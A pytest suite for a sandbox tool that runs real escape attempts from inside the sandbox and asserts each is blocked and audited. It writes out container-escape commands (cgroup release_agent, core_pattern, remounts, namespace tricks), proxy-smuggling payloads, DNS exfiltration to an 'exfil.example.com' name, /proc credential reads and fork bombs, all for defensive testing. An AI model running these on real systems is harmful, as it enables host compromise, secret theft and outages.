"""Escapes and bypasses tried for real from inside the sandbox (issue 9). Every attempt must fail;
where the design records the refusal (seccomp denials, opens of hidden paths, egress refusals),
the audit record must be there, naming the program.

Attempts already made by the integration suite are not repeated here: every syscall of the
`agent` baseline with plain arguments, clone with each CLONE_NEW* flag, x32 and int 0x80 calls,
personality changes and `setarch -R` (test_seccomp.py); hard and symbolic links to hidden
files, /proc/self/fd reopen, mmap, sendfile and reflink of hidden files, raw block devices,
bind mounts, environment scrubbing (test_secrets.py); IP literal spellings (decimal, hex, octal,
short, trailing dot, IPv4-mapped IPv6), cloud metadata, UDP, ICMP, raw sockets, IPv6, DNS to
public resolvers, abstract and host unix sockets (test_egress.py); TIOCSTI/TIOCLINUX on the
sandbox's terminal (test_terminal.py); signals to host processes, /proc/sys and sysfs knobs,
setuid binaries (test_run.py); descriptors the caller holds (test_lifetime.py). This file adds
attacks those do not make. `ESCAPES` at the end counts the attempts for the README.

Request smuggling on inspected hosts: the framing attacks are in Tests/integration/test_inspect.py
(test_request_smuggling_into_an_inspected_host_is_refused).
"""

import os
import random
import re
import socket
import string
import subprocess
import threading
import time

import pytest

from conftest import (PY, ROOT, TIMEOUT, attack_lines, read_audit, requires_root, sandbox_env,
                      syscall_denials, write_profile)


def rand(n, alphabet=string.ascii_letters + string.digits):
    return "".join(random.choice(alphabet) for _ in range(n))


def run_attack(run, workspace, audit, script, options=(), env=None, timeout=TIMEOUT):
    return run(["run", "--audit", audit, *options, "--", "sh", "-c", script], workspace, env=env, timeout=timeout)


def verdict(r, name):
    lines = attack_lines(r.stdout).get(name)
    assert lines, f"attack {name} printed no verdict (exit {r.returncode}):\n{r.stdout}\n{r.stderr}"
    for v, detail in lines:
        assert v == "blocked", f"ESCAPE: {name}: {detail}"
    return lines[0][1]


@pytest.fixture
def audit(tmp_host_dir):
    return os.path.join(tmp_host_dir, "audit.jsonl")


# --- kernel surface, secrets in memory, descriptors, terminals, sockets (attack.c) ------------

# (attack, arguments, syscall the audit log must name, or None where the kernel refuses on its own:
#  no capability in the sandbox's namespaces, no such device, no such protocol module)
C_ATTACKS = [
    ("open-by-handle", "", "open_by_handle_at"),   # shocker: a guessed handle of the host's root inode
    ("io-uring", "", "io_uring_setup"),
    ("bpf-load", "", "bpf"),                        # BPF_PROG_LOAD of a socket filter
    ("userfaultfd", "", "userfaultfd"),             # syscall and /dev/userfaultfd
    ("perf-kernel", "", "perf_event_open"),         # kernel cycles of every process on cpu 0
    ("keyring-read", "", "keyctl"),                 # KEYCTL_READ of the user keyring
    ("module-load", "", "finit_module"),
    ("kexec", "", "kexec_load"),
    ("ioperm", "", "ioperm"),                       # CMOS ports
    ("chroot-escape", "", "chroot"),                # the classic double chroot
    ("setns-all", "", "setns"),                     # every /proc/*/ns/* the sandbox can open
    ("tiocsti-high-bits", "", "ioctl"),             # TIOCSTI with junk in the upper 32 bits
    ("vsock-host", "", "socket"),                   # AF_VSOCK to the hypervisor
    ("exotic-socket", "alg", "socket"),
    ("exotic-socket", "xdp", None),
    ("exotic-socket", "rds", None),
    ("exotic-socket", "tipc", None),
    ("mknod-disk", "", None),                       # a block device node for the host disk
    ("netlink-route-add", "", None),                # RTM_NEWROUTE
    ("tioccons", "", None),                         # redirect the console to our terminal
    ("foreign-tty", "", None),                      # /dev/console, tty0, ttyS0, other ptys
    ("ptrace-init", "", None),                      # pid 1 is a fork of the supervisor
    ("fd-steal", "", None),                         # /proc/*/fd of other sandbox processes (pid 1)
    ("inherited-fds", "", None),
]


@pytest.mark.parametrize("name, arg, syscall", C_ATTACKS, ids=[f"{n}{'-' + a if a else ''}" for n, a, _ in C_ATTACKS])
def test_c_attack(run, workspace, attack, audit, name, arg, syscall):
    r = run_attack(run, workspace, audit, f"{attack} {name} {arg}")
    verdict(r, name)
    assert r.returncode == 0, r.stderr
    if syscall:
        denied = syscall_denials(read_audit(audit), syscall)
        assert denied, f"no audit record of the refused {syscall}"
        assert denied[0]["exe"] == attack and denied[0]["argv"][:2] == [attack, name], denied[0]


# --- host files -------------------------------------------------------------------------------


@pytest.fixture
def host_secret(tmp_host_dir):
    """A host file outside the sandbox's view, holding a marker."""
    marker = "HOSTSECRET-" + rand(24)
    path = os.path.join(tmp_host_dir, "host-only-file")
    with open(path, "w") as f:
        f.write(marker + "\n")
    os.chmod(path, 0o644)
    os.chmod(tmp_host_dir, 0o755)
    return path, marker


def test_proc_root_and_cwd_of_every_process(run, workspace, attack, audit, host_secret):
    path, marker = host_secret
    r = run_attack(run, workspace, audit, f"sleep 1000 & {attack} proc-links {path} {marker}; kill $!")
    assert "tried=" in verdict(r, "proc-links")


def test_shell_globs_over_proc_reach_no_host_file(run, workspace, audit, host_secret):
    path, marker = host_secret
    r = run_attack(run, workspace, audit,
                   f"cat /proc/*/root{path} /proc/*/cwd/../../..{path} /proc/1/root/../../..{path} "
                   f"/proc/self/root/proc/1/root{path} 2>/dev/null; true")
    assert marker not in r.stdout


def test_content_of_a_hard_link_to_a_credential_is_hidden(run, workspace, audit, tmp_host_dir):
    """A hard link in the workspace to a credential file elsewhere: the path is innocent, the
    content is not. Discovery looks at content, so the link is masked and its open audited."""
    key_id = "AKIA" + rand(16, string.ascii_uppercase + string.digits)
    original = os.path.join(tmp_host_dir, "credentials")
    with open(original, "w") as f:
        f.write(f"[default]\naws_access_key_id = {key_id}\naws_secret_access_key = {rand(40)}\n")
    os.link(original, os.path.join(workspace, "notes.txt"))
    r = run_attack(run, workspace, audit, "cat notes.txt; true")
    assert key_id not in r.stdout
    if not ROOT:
        return  # opens of hidden paths are watched (fanotify) only when root runs Interlock
    opens = [x for x in read_audit(audit) if x.get("kind") == "file" and x.get("action") == "deny"
             and x["detail"]["path"].endswith("/notes.txt")]
    assert opens and opens[0]["exe"] == "/usr/bin/cat", opens


def test_symlink_race_against_a_read_write_bind(run, workspace, tmp_host_dir):
    """`read_write = ["cache"]` while a host-side loop swaps `cache` between a directory and a
    symlink to a host directory: no run may write into the host directory (a run may refuse to
    start when it catches the symlink)."""
    victim = os.path.join(tmp_host_dir, "victim")
    os.mkdir(victim)
    os.chmod(victim, 0o777)
    write_profile(workspace, 'extends = "default"\n[filesystem]\nread_write = ["cache"]\n')
    cache, parked = os.path.join(workspace, "cache"), os.path.join(workspace, "cache.real")
    os.mkdir(cache)
    os.chmod(cache, 0o777)
    stop = threading.Event()

    def flip():
        while not stop.is_set():
            try:
                os.rename(cache, parked)
                os.symlink(victim, cache)
                time.sleep(0.0005)
                os.unlink(cache)
                os.rename(parked, cache)
            except OSError:
                pass

    t = threading.Thread(target=flip)
    t.start()
    outcomes = []
    try:
        for i in range(15):
            r = run.sandbox(f"echo pwned > cache/pwned-{i} 2>/dev/null; echo done", workspace)
            outcomes.append(r.returncode)
    finally:
        stop.set()
        t.join()
    assert os.listdir(victim) == [], f"a run wrote into the host directory: {os.listdir(victim)}"
    assert set(outcomes) <= {0, 2, 125}, outcomes


def test_audit_log_and_trust_store_untouchable_when_workspace_is_home(run, workspace):
    """`interlock run` in the home directory: the audit log and the profile trust store live
    under ~/.local/state, inside the writable workspace. The sandbox must not be able to rewrite
    its own audit trail or approve a profile."""
    write_profile(workspace, 'extends = "default"\n')
    env = sandbox_env({"HOME": workspace})
    env.pop("XDG_STATE_HOME", None)
    env.pop("XDG_CACHE_HOME", None)
    # The approval above used the suite's state directory: approve again under this HOME.
    r = subprocess.run([run.binary, "profile", "trust", "--workspace", workspace], cwd=workspace, env=env,
                       capture_output=True, text=True, timeout=TIMEOUT)
    assert r.returncode == 0, r.stderr
    state = os.path.join(workspace, ".local", "state", "interlock")
    trust_before = {os.path.join(d, f): open(os.path.join(d, f), "rb").read()
                    for d, _, fs in os.walk(os.path.join(state, "trust")) for f in fs}
    assert trust_before, "no trust record under ~/.local/state"
    script = (f"for f in {state}/audit/*.jsonl; do truncate -s0 \"$f\"; (printf 'FOR%sGED' X >> \"$f\"); rm -f \"$f\"; done; "
              f"for f in $(find {state}/trust -type f); do (printf 'FOR%sGED' X > \"$f\"); rm -f \"$f\"; done; "
              f"rm -rf {state} 2>/dev/null; mv {state} {workspace}/moved 2>/dev/null; true")
    r = run(["run", "--", "sh", "-c", script], workspace, env=env)
    assert r.returncode == 0, r.stderr
    logs = [os.path.join(state, "audit", f) for f in os.listdir(os.path.join(state, "audit"))]
    assert len(logs) == 1, logs
    records = read_audit(logs[0])
    assert [x["action"] for x in records if x["kind"] == "lifecycle"] == ["start", "exit"], records
    assert not any("FORXGED" in open(p, "rb").read().decode(errors="replace") for p in logs)
    trust_after = {p: open(p, "rb").read() for p in trust_before if os.path.exists(p)}
    assert trust_after == trust_before


def test_interlock_binary_and_init_exe_not_writable(run, workspace, audit, interlock):
    r = run_attack(run, workspace, audit,
                   f"{PY} -c \"import os\nfor p in ['/proc/1/exe', {interlock!r}]:\n"
                   f"    try:\n        os.open(p, os.O_WRONLY); print('WROTE', p)\n"
                   f"    except OSError as e:\n        print('ERR', p, e.errno)\"")
    assert "WROTE" not in r.stdout and r.stdout.count("ERR") == 2, r.stdout + r.stderr


HOST_KNOBS = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper",
              "/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/poweroff_cmd"]


@pytest.mark.parametrize("path", [p for p in HOST_KNOBS if os.path.exists(p)])
def test_classic_container_escape_knobs(run, workspace, audit, path):
    """Knobs that make the host run a program of the attacker's choosing."""
    before = open(path, "rb").read() if os.access(path, os.R_OK) else None
    payload = ":pwn:E::pwn::/pwn:" if path.endswith("register") else f"|{workspace}/pwn"
    r = run_attack(run, workspace, audit, f"printf '%s' '{payload}' > {path} && echo WROTE; true")
    assert "WROTE" not in r.stdout
    if before is not None:
        assert open(path, "rb").read() == before


def test_cgroup_release_agent(run, workspace, audit):
    """The cgroup v1 escape: a release_agent runs on the host as root when a cgroup empties."""
    agents = [os.path.join("/sys/fs/cgroup", d, "release_agent") for d in os.listdir("/sys/fs/cgroup")
              if os.path.exists(os.path.join("/sys/fs/cgroup", d, "release_agent"))]
    script = (f"for f in /sys/fs/cgroup/*/release_agent /sys/fs/cgroup/*/notify_on_release; do "
              f"echo {workspace}/pwn > $f 2>/dev/null && echo WROTE $f; done; "
              f"mkdir /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg && echo MOUNTED; true")
    before = {a: open(a).read() for a in agents if os.access(a, os.R_OK)}
    r = run_attack(run, workspace, audit, script)
    assert "WROTE" not in r.stdout and "MOUNTED" not in r.stdout, r.stdout
    assert {a: open(a).read() for a in before} == before
    assert syscall_denials(read_audit(audit), "mount"), "the cgroup mount was not audited"


def test_remount_host_root_read_write(run, workspace, audit):
    r = run_attack(run, workspace, audit,
                   "mount -o remount,rw / && echo REMOUNTED; mount -o remount,rw,bind /usr && echo REMOUNTED; "
                   "touch /usr/pwned 2>/dev/null && echo WROTE; true")
    assert "REMOUNTED" not in r.stdout and "WROTE" not in r.stdout
    assert not os.path.exists("/usr/pwned")
    assert syscall_denials(read_audit(audit), "mount")


def test_reopen_read_only_host_file_for_writing_via_proc_fd(run, workspace, audit):
    r = run_attack(run, workspace, audit, f"""{PY} -c "
import os
fd = os.open('/etc/hostname', os.O_RDONLY)
try:
    os.open('/proc/self/fd/%d' % fd, os.O_RDWR); print('WROTE')
except OSError as e:
    print('ERR', e.errno)
" """)
    assert r.stdout.startswith("ERR"), r.stdout + r.stderr


# --- secrets ------------------------------------------------------------------------------------

SUPERVISOR_SECRET = "ghp_" + rand(36)


def test_supervisor_secret_not_in_any_memory_or_proc_file(run, workspace, attack, audit):
    """The caller's GITHUB_TOKEN reaches the supervisor, not the sandbox. Pid 1 is a fork of the
    supervisor: its memory, environ, cmdline must not give the token away either."""
    env = sandbox_env({"GITHUB_TOKEN": SUPERVISOR_SECRET})
    rev = SUPERVISOR_SECRET[::-1]
    r = run_attack(run, workspace, audit,
                   f"{attack} mem-scan {rev}; cat /proc/*/environ /proc/*/cmdline /proc/1/task/*/environ "
                   f"/proc/1/auxv 2>/dev/null | tr '\\0' '\\n' | grep -c {SUPERVISOR_SECRET[:12]}; true", env=env)
    verdict(r, "mem-scan")
    assert SUPERVISOR_SECRET not in r.stdout


def test_core_dump_holds_no_supervisor_secret(run, workspace, audit):
    env = sandbox_env({"GITHUB_TOKEN": SUPERVISOR_SECRET})
    r = run_attack(run, workspace, audit, "ulimit -c unlimited 2>/dev/null; sh -c 'kill -SEGV $$'; true", env=env)
    assert r.returncode == 0, r.stderr
    for dirpath, _, files in os.walk(workspace):
        for f in files:
            if f.startswith("core"):
                assert SUPERVISOR_SECRET.encode() not in open(os.path.join(dirpath, f), "rb").read()


# --- kernel surface: real programs --------------------------------------------------------------

# (label, script, what must not be printed, syscall the audit log must name)
SHELL_ATTACKS = [
    ("unshare-userns-then-mount", "unshare -Urm sh -c 'mount -t tmpfs x /mnt && echo ESCAPED'", "unshare"),
    ("python-unshare", f"{PY} -c 'import ctypes; l=ctypes.CDLL(None); "
                       f"print(\"ESCAPED\" if l.unshare(0x10020000) == 0 else \"ERR\")'", "unshare"),
    ("nsenter-own-namespaces", "nsenter --net=/proc/self/ns/net --mount=/proc/self/ns/mnt true && echo ESCAPED", "setns"),
    ("fsopen-new-mount-api", f"{PY} -c 'import ctypes; l=ctypes.CDLL(None, use_errno=True); "
                             f"r=l.syscall(430, b\"proc\", 0); print(\"ESCAPED\" if r >= 0 else \"ERR\")'", "fsopen"),
    ("mount-proc-of-host", "mkdir -p /tmp/p && mount -t proc proc /tmp/p && ls /tmp/p/1/root && echo ESCAPED", "mount"),
    ("pivot-root", "mkdir -p /tmp/new/old && pivot_root /tmp/new /tmp/new/old && echo ESCAPED", "pivot_root"),
    ("ip-link-down", "ip link set lo down && echo ESCAPED", None),
    ("ip-addr-add", "ip addr add 10.9.9.9/8 dev lo && echo ESCAPED", None),
    ("ip-route-replace", "ip route replace default dev lo && echo ESCAPED", None),
    ("ip-link-add-veth", "ip link add v0 type veth peer name v1 && echo ESCAPED", None),
    ("sysrq-crash", "echo c > /proc/sysrq-trigger && echo ESCAPED", None),
    ("dmesg-clear", "dmesg -C && echo ESCAPED", "syslog"),
    ("swapoff-all", "swapoff -a; swapon /dev/vda && echo ESCAPED", None),
    ("hostname-of-host", "hostname pwned; cat /proc/sys/kernel/hostname > /dev/null; true", None),
]


@pytest.mark.parametrize("label, script, syscall", SHELL_ATTACKS, ids=[s[0] for s in SHELL_ATTACKS])
def test_shell_attack(run, workspace, audit, label, script, syscall):
    host_hostname = socket.gethostname()
    r = run_attack(run, workspace, audit, f"{script} 2>&1; true")
    assert "ESCAPED" not in r.stdout, r.stdout
    assert socket.gethostname() == host_hostname
    if syscall:
        assert syscall_denials(read_audit(audit), syscall), f"no audit record of {syscall}: {r.stdout}"


# --- terminal -----------------------------------------------------------------------------------


def test_terminal_attacks_on_a_real_terminal(interlock, workspace, attack, pty_session, tmp_host_dir):
    """With the user at a terminal: TIOCSTI with high bits, TIOCCONS, opening other terminals,
    writing to /proc/1/fd/* (pid 1 holds the sandbox's terminal and the supervisor's pipe)."""
    audit = os.path.join(tmp_host_dir, "audit.jsonl")
    script = (f"{attack} tiocsti-high-bits; {attack} tioccons; {attack} foreign-tty; {attack} fd-steal; "
              f"for f in /proc/1/fd/*; do echo INJECTED > $f; done 2>/dev/null; echo END")
    s = pty_session([interlock, "run", "--audit", audit, "--", "sh", "-c", script], workspace)
    out = s.expect(b"END").decode(errors="replace")
    assert s.wait() == 0
    for name in ("tiocsti-high-bits", "tioccons", "foreign-tty", "fd-steal"):
        assert f"ATTACK {name} blocked" in out, out
    assert "ESCAPED" not in out and "INJECTED" not in out
    assert syscall_denials(read_audit(audit), "ioctl")


# --- signals ------------------------------------------------------------------------------------


def test_kill_everything_reachable(run, workspace, attack, audit, procs):
    """kill(-1, SIGKILL), SIGKILL/SIGSTOP to pid 1, from inside: host processes of the same user
    live on, and the supervisor still ends the run and reports it."""
    canary = procs.start(["sleep", "1000"])
    r = run_attack(run, workspace, audit, f"{attack} kill-everything; kill -KILL 1; kill -STOP 1; echo alive")
    assert canary.poll() is None, "a host process was killed from inside the sandbox"
    assert r.returncode in (0, 137), (r.returncode, r.stderr)
    records = read_audit(audit)
    assert [x["action"] for x in records if x["kind"] == "lifecycle"] == ["start", "exit"]


# --- network ------------------------------------------------------------------------------------


class Listener:
    """A host TCP server on loopback: counts connections, answers each with a banner."""

    def __init__(self, banner):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.banner = banner
        self.accepted = 0
        self.requests = []
        self.stop = False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            c.settimeout(2)
            try:
                self.requests.append(c.recv(4096))
            except OSError:
                pass
            try:
                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s"
                          % (len(self.banner), self.banner))
            except OSError:
                pass
            c.close()

    def close(self):
        self.stop = True
        self.sock.close()
        self.thread.join(timeout=10)


@pytest.fixture
def net(run, workspace):
    allowed, blocked = Listener(b"ALLOWED-SERVER"), Listener(b"BLOCKED-SERVER-REACHED")
    write_profile(workspace, f'extends = "default"\n[network]\negress = ["allowed.test:{allowed.port}"]\n'
                             f'hosts = {{ "allowed.test" = "127.0.0.1", "blocked.test" = "127.0.0.1" }}\n')
    yield allowed, blocked
    allowed.close()
    blocked.close()


RAW_CLIENT = r"""
import socket, sys
host, port, data = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode().decode('unicode_escape').encode('latin-1')
s = socket.create_connection((host, port), timeout=10)
s.sendall(data)
out = b''
try:
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        out += chunk
except OSError:
    pass
print(repr(out))
"""


def socks5(dest):
    """A SOCKS5 greeting plus a CONNECT request for dest: ("domain", name, port) or (4|6, bytes, port)."""
    kind, addr, port = dest
    if kind == "domain":
        a = b"\x03" + bytes([len(addr)]) + addr
    elif kind == 4:
        a = b"\x01" + addr
    else:
        a = b"\x04" + addr
    return b"\x05\x01\x00" + b"\x05\x01\x00" + a + port.to_bytes(2, "big")


def escaped(b):
    return "".join(f"\\x{c:02x}" for c in b)


# (label, how: proxy|direct, destination port placeholder A (allowed) / B (blocked), payload builder, audited)
PROXY_ATTACKS = [
    ("connect-userinfo", "proxy", lambda A, B: f"CONNECT allowed.test:{A}@127.0.0.1:{B} HTTP/1.1\r\nHost: allowed.test:{A}\r\n\r\n"),
    ("connect-ip-with-allowed-host-header", "proxy", lambda A, B: f"CONNECT 127.0.0.1:{B} HTTP/1.1\r\nHost: allowed.test:{A}\r\n\r\n"),
    ("connect-allowed-name-other-port", "proxy", lambda A, B: f"CONNECT allowed.test:{B} HTTP/1.1\r\n\r\n"),
    ("connect-nul-in-name", "proxy", lambda A, B: f"CONNECT allowed.test\x00.blocked.test:{B} HTTP/1.1\r\n\r\n"),
    ("connect-suffix-confusion", "proxy", lambda A, B: f"CONNECT allowed.test.blocked.test:{A} HTTP/1.1\r\n\r\n"),
    ("absolute-uri-userinfo", "proxy", lambda A, B: f"GET http://allowed.test:{A}@blocked.test:{B}/ HTTP/1.1\r\nHost: allowed.test:{A}\r\n\r\n"),
    ("absolute-uri-blocked-with-allowed-host", "proxy", lambda A, B: f"GET http://blocked.test:{B}/ HTTP/1.1\r\nHost: allowed.test:{A}\r\n\r\n"),
    ("absolute-uri-allowed-with-blocked-host", "proxy", lambda A, B: f"GET http://allowed.test:{A}/ HTTP/1.1\r\nHost: 127.0.0.1:{B}\r\nConnection: close\r\n\r\n"),
    ("two-host-headers", "proxy", lambda A, B: f"GET /x HTTP/1.1\r\nHost: allowed.test:{A}\r\nHost: 127.0.0.1:{B}\r\nConnection: close\r\n\r\n"),
    ("socks5-allowed-name-other-port", "proxy", lambda A, B: escaped(socks5(("domain", b"allowed.test", B)))),
    ("socks5-ipv4-mapped-ipv6", "proxy", lambda A, B: escaped(socks5((6, bytes(10) + b"\xff\xff\x7f\x00\x00\x01", B)))),
    ("socks4-ip", "proxy", lambda A, B: escaped(b"\x04\x01" + B.to_bytes(2, "big") + b"\x7f\x00\x00\x01root\x00")),
    ("transparent-host-header-other-port", "direct", lambda A, B: f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{B}\r\nConnection: close\r\n\r\n"),
    ("transparent-host-header-blocked-name", "direct", lambda A, B: f"GET / HTTP/1.1\r\nHost: blocked.test:{B}\r\nConnection: close\r\n\r\n"),
    ("transparent-absolute-uri", "direct", lambda A, B: f"GET http://blocked.test:{B}/ HTTP/1.1\r\nHost: allowed.test:{A}\r\nConnection: close\r\n\r\n"),
    ("transparent-blocked-port", "direct-blocked", lambda A, B: f"GET / HTTP/1.1\r\nHost: allowed.test:{A}\r\n\r\n"),
]


def test_allowed_destination_is_reachable(run, workspace, net):
    """The control for the confusions below: the allowed server is reachable through the proxy,
    as root and unprivileged (unprivileged runs once had every proxied connection reset: the
    proxy set TCP_NODELAY at the socket level, i.e. SO_DEBUG, which needs CAP_NET_ADMIN)."""
    allowed, blocked = net
    r = run.sandbox(f"curl -sS http://allowed.test:{allowed.port}/", workspace)
    assert r.returncode == 0 and r.stdout == "ALLOWED-SERVER", r.stdout + r.stderr
    assert allowed.accepted == 1 and blocked.accepted == 0


@pytest.mark.parametrize("label, how, payload", PROXY_ATTACKS, ids=[p[0] for p in PROXY_ATTACKS])
def test_egress_confusion(run, workspace, tmp_host_dir, net, label, how, payload):
    """Names, ports, userinfo, duplicate headers, SOCKS address forms and transparent-path header
    games, each trying to reach a loopback port the profile does not allow. The blocked server
    counts connections: it must see none."""
    allowed, blocked = net
    A, B = allowed.port, blocked.port
    host, port = {"proxy": ("127.0.0.1", 3128), "direct": ("10.20.30.40", A), "direct-blocked": ("10.20.30.40", B)}[how]
    audit = os.path.join(tmp_host_dir, "audit.jsonl")
    data = payload(A, B).replace("\r", "\\r").replace("\n", "\\n").replace("\x00", "\\x00")
    r = run(["run", "--audit", audit, "--", PY, "-c", RAW_CLIENT, host, str(port), data], workspace)
    assert blocked.accepted == 0, f"the blocked server was reached: {r.stdout}"
    assert b"BLOCKED-SERVER-REACHED" not in r.stdout.encode()
    # Whatever reached the allowed server went there because its name was checked.
    for req in allowed.requests:
        assert f"127.0.0.1:{B}".encode() not in req.split(b"\r\n")[0]


def test_dns_exfiltration_through_the_resolver(run, workspace, tmp_host_dir, net):
    """Secret-bearing names to the sandbox's resolver (A, TXT, over TCP too): refused and
    audited, never forwarded."""
    audit = os.path.join(tmp_host_dir, "audit.jsonl")
    label = "c2vjcmv0" + rand(8).lower()
    script = (f"getent hosts {label}.exfil.example.com; {PY} -c \"import socket; "
              f"socket.getaddrinfo('{label}.allowed.test.evil', 80)\" 2>/dev/null; true")
    r = run(["run", "--audit", audit, "--", "sh", "-c", script], workspace)
    assert label not in r.stdout
    denied = [x for x in read_audit(audit) if x["kind"] == "connect" and x["action"] == "deny"
              and x["detail"].get("protocol") == "dns"]
    assert any(label in x["detail"]["host"] for x in denied), denied


# --- resources ----------------------------------------------------------------------------------


def limits_profile(workspace, **limits):
    body = "\n".join(f"{k} = {v!r}".replace("'", '"') for k, v in limits.items())
    write_profile(workspace, f'extends = "default"\n[limits]\n{body}\n')


def assert_host_and_supervisor_fine(run, workspace, r, procs_canary):
    """The supervisor ended the run with the command's status (not its own failure), a host
    process lives on, and the next sandbox starts."""
    assert r.returncode not in (125, 126, 127) and "interlock:" not in r.stderr.replace("interlock: exit", ""), r.stderr
    assert procs_canary.poll() is None
    again = run.sandbox("echo still-works", workspace)
    assert again.returncode == 0 and again.stdout.strip() == "still-works", again.stderr


def test_fork_bomb_contained(run, workspace, attack, procs):
    canary = procs.start(["sleep", "1000"])
    limits_profile(workspace, pids=64)
    r = run.sandbox(f"{attack} fork-bomb 100000; true", workspace, timeout=120)
    detail = verdict(r, "fork-bomb")
    assert int(re.search(r"forks=(\d+)", detail).group(1)) < 64, detail
    assert_host_and_supervisor_fine(run, workspace, r, canary)


def test_memory_hog_contained(run, workspace, attack, procs):
    canary = procs.start(["sleep", "1000"])
    limits_profile(workspace, memory="128M")
    r = run.sandbox(f"{attack} memory-hog 4096; echo after=$?", workspace, timeout=120)
    lines = attack_lines(r.stdout).get("memory-hog")
    if lines:  # refused (RLIMIT_AS) rather than killed (cgroup OOM)
        assert lines[0][0] == "blocked", lines
        assert int(re.search(r"mib=(\d+)", lines[0][1]).group(1)) <= 128
    else:
        assert "after=137" in r.stdout, r.stdout
    assert_host_and_supervisor_fine(run, workspace, r, canary)


def test_fd_exhaustion_contained(run, workspace, attack, procs):
    canary = procs.start(["sleep", "1000"])
    limits_profile(workspace, open_files=256)
    r = run.sandbox(f"{attack} fd-exhaust 1000000; true", workspace)
    detail = verdict(r, "fd-exhaust")
    assert "EMFILE" in detail and int(re.search(r"fds=(\d+)", detail).group(1)) < 256, detail
    assert_host_and_supervisor_fine(run, workspace, r, canary)


def test_tmp_fill_contained(run, workspace, attack, procs):
    """/tmp inside is a tmpfs: its pages are host memory. Filling it must stop at the sandbox's
    memory limit, not at half the host's RAM."""
    canary = procs.start(["sleep", "1000"])
    limits_profile(workspace, memory="128M")
    r = run.sandbox(f"{attack} fill-tmp /tmp 1024; echo after=$?", workspace, timeout=120)
    lines = attack_lines(r.stdout).get("fill-tmp")
    if lines:
        assert lines[0][0] == "blocked", lines
        assert int(re.search(r"mib=(\d+)", lines[0][1]).group(1)) <= 128, lines
    else:  # the cgroup's OOM killer ended the sandbox at the limit
        assert "after=137" in r.stdout or r.returncode == 137, (r.returncode, r.stdout)
    assert_host_and_supervisor_fine(run, workspace, r, canary)
